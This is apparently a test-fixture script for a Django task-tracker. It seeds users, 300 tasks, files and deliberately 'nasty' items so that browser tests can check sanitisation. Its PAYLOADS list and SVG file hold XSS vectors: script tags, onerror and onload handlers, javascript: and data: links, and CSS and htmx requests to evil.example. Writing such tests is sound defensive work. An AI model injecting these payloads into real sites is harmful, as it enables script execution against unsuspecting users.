"""Fill the site for the browser, in a separate process: 300 tasks, users, files, and texts that try
to run.
"""

import json
from typing import Any

from django.contrib.auth.models import User
from django.db import transaction

from resources_app.identity import tokens
from resources_app.identity.roles import Actor
from resources_app.intelligencebank import connections
from resources_app.intelligencebank.fake.service import FakeIB
from resources_app.writing import stored_files, write_path
from tests.factories import make_user
from tests.intelligencebank.mirrors import link, sync
from tests.intelligencebank.worlds import SERVICE, SERVICE_PASSWORD, fill_tenant, folder_named

PASSWORD = "the browser knows it"
LIBRARY = "BnK4JV"
READERS = {"alice": "alice-secret-word", "carol": "carol-secret-word"}
TASKS = 300
STATUSES = ("open", "open", "in_progress", "blocked", "done", "done", "cancelled")
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "[click](javascript:window.pwned=1)",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "![pixel](https://evil.example/pixel.png) ![data](data:image/svg+xml,<svg/onload=window.pwned=1>)",
    "<style>body{background:url(https://evil.example/css)}</style><p style='background:url(https://evil.example/x)'>",
    '<div hx-get="https://evil.example/" hx-trigger="load" data-hx-get="/raw/">x</div>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "\"><script>window.pwned=1</script>",
)  # fmt: skip


def fill(library_url: str) -> None:
    with transaction.atomic():
        answer = _fill()
    _mirror(library_url)
    print(json.dumps(answer))


def _mirror(library_url: str) -> None:
    """Mirror the whole library, and link the accounts of alice and carol."""
    account = {"email": SERVICE, "password": SERVICE_PASSWORD}
    connection = connections.create(LIBRARY, "Library", library_url, **account)
    assert sync(connection).status == "complete"
    for name in READERS:
        link(User.objects.get(username=name), connection, f"{name}@example.com", READERS[name])


def fill_library(fake: FakeIB) -> dict[str, str]:
    """Fill the library and return the folders by name."""
    tenant = fill_tenant(fake, LIBRARY)
    names = ("Marketing", "Logos", "Photos", "Legal")
    folders = {name: folder_named(tenant, name) for name in names}
    tenant.add_person("carol@example.com", READERS["carol"]).grants[folders["Marketing"]] = "access"
    return folders


def _fill() -> dict[str, Any]:
    people = {name: _person(name, *roles) for name, roles in _ROLES.items()}
    alice, carol = Actor(people["alice"], "web"), Actor(people["carol"], "web")
    for number in range(6):
        write_path.create_item(
            carol,
            "epic",
            {"title": f"Epic number {number + 1}", "description": "Toward one outcome."},
        )
    for number in range(TASKS):
        write_path.create_item(alice, "task", _task(number))
    files = {
        "table.csv": "users,p95_ms\n10,84\n200,310\n",
        "notes.md": _NOTES,
        "source.py": "def answer() -> int:\n    return 42\n",
        "picture.svg": _PICTURE,
    }
    for name, content in files.items():
        stored_files.create_resource(carol, f"resources/docs/{name}", content)
    nasty = _nasty(carol)
    secret = tokens.create(people["alice"], "claude-code", "write")[1]
    return {"token": secret, "nasty": nasty}


_ROLES = {"alice": ("contributor",), "bob": ("viewer",), "carol": ("admin",), "mallory": ()}


def _person(name: str, *roles: str) -> User:
    user = make_user(name, *roles)
    user.set_password(PASSWORD)
    user.is_staff = user.is_superuser = name == "carol"
    user.save()
    return user


def _task(number: int) -> dict[str, Any]:
    return {
        "title": f"Paginate asset thumbnails for large folders, part {number + 1}",
        "description": (
            f"Walk every page once.\n\n- [x] first\n- [ ] second\n\nSee TASK-{max(1, number):04d}"
            " and `code`."
        ),
        "status": STATUSES[number % len(STATUSES)],
        "priority": ("none", "low", "high", "urgent", "medium")[number % 5],
        "labels": ["sync", "viewer"][: number % 3],
        "epic_id": f"EPIC-{number % 6 + 1:04d}",
        "assignee": ("alice", "carol", None)[number % 3],
    }


_NOTES = """---
title: Notes on renames
status: accepted
---
# Notes on renames

When a folder is renamed the mirror keeps the old path. See TASK-0001 and mcp://backlog/resources/docs/source.py.

| Case | Before |
|------|-------:|
| A    | 412 s  |

```mermaid
graph LR; A --> B
```
"""
_PICTURE = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
    '<script>window.pwned=1</script><rect width="9" height="9"/></svg>'
)


def _nasty(actor: Actor) -> list[str]:
    """Create items whose text fields hold every payload somewhere."""
    whole = "\n\n".join(PAYLOADS)
    refs = []
    for payload in PAYLOADS:
        values = {
            "title": payload[:200],
            "description": whole,
            "labels": [payload[:50]],
            "evidence": [payload],
        }
        values |= {
            "blocked_reason": [payload],
            "references": [{"url": "https://evil.example/", "title": payload}],
        }
        item = write_path.create_item(actor, "task", values | {"status": "blocked"})
        write_path.add_comment(actor, f"mcp://backlog/tasks/{item.ref}", whole)
        refs.append(item.ref)
    stored_files.create_resource(
        actor, "resources/nasty.md", f"---\ntitle: '<script>window.pwned=1</script>'\n---\n{whole}"
    )
    stored_files.create_resource(actor, "resources/nasty.html", whole)
    return refs
